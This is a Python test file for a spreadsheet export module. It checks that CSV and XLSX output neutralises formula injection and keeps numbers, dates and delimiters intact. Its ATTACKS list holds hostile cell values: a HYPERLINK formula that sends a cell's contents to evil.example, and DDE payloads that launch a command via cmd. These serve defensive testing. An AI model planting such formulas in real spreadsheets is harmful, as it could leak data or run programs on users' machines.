"""Tables that a spreadsheet opens: nothing in them is executed."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.sheets import FORMULA_STARTS, csv_table, safe_cell, xlsx_table

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Счёт")',
    "+7 (900) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


def cells_of(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_in_csv_is_text(attack: str) -> None:
    [_, [cell]] = cells_of(csv_table(["Название"], [[attack]]))

    assert cell == f"'{attack}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_in_xlsx_is_text(attack: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_table("Смета", ["Название"], [[attack]])))

    cell = book.active["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None


def test_heading_that_came_from_outside_is_text_too() -> None:
    [[cell]] = cells_of(csv_table(["=1+1"], []))

    assert cell == "'=1+1"


def test_negative_number_stays_a_number() -> None:
    assert safe_cell(Decimal("-10.50")) == "-10.50"


def test_numbers_and_days_keep_their_types_in_xlsx() -> None:
    rows = [[Decimal("10.5"), date(2026, 12, 12), None, True]]

    book = openpyxl.load_workbook(io.BytesIO(xlsx_table("Смета", ["Сумма", "День", "Пусто", "Да"], rows)))

    amount, day, nothing, yes = next(book.active.iter_rows(min_row=2))
    assert (amount.value, day.value.date(), nothing.value, yes.value) == (
        10.5,
        date(2026, 12, 12),
        None,
        True,
    )


def test_delimiter_and_line_break_stay_in_their_cell() -> None:
    [_, row] = cells_of(csv_table(["а", "б"], [["один;два", "три\nчетыре"]]))

    assert row == ["один;два", "три\nчетыре"]


@given(st.text(max_size=50))
def test_no_text_begins_as_a_formula(text: str) -> None:
    assert not safe_cell(text).lstrip(" ").startswith(FORMULA_STARTS)
